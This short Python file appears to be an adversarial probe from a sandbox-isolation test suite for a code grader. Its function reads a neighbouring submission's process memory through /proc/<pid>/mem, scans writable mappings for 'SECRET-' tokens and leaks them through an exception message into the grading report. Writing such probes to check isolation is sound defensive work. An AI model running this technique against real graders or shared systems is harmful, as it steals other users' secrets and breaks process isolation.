"""Reads the memory of another's submission that is graded meanwhile.

must hold: the secret is in no report
stopped by: private root, Landlock
control: off, stolen
"""

import contextlib
import json
import re
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    process = Path(f"/proc/{TARGET['neighbour']}")
    found = set()
    with (process / "mem").open("rb", 0) as memory:
        for line in (process / "maps").read_text().splitlines():
            where, rights = line.split()[:2]
            begin, end = (int(text, 16) for text in where.split("-"))
            if rights != "rw-p" or end - begin >= 1 << 26:
                continue
            for at in range(begin, end, 1 << 18):
                # it is at work meanwhile, and may have given some of the memory back
                with contextlib.suppress(OSError):
                    memory.seek(at)
                    part = memory.read(min(end - at, (1 << 18) + 64))
                    found.update(re.findall(rb"SECRET-[0-9a-f]{24}", part))
    raise RuntimeError(str(found))
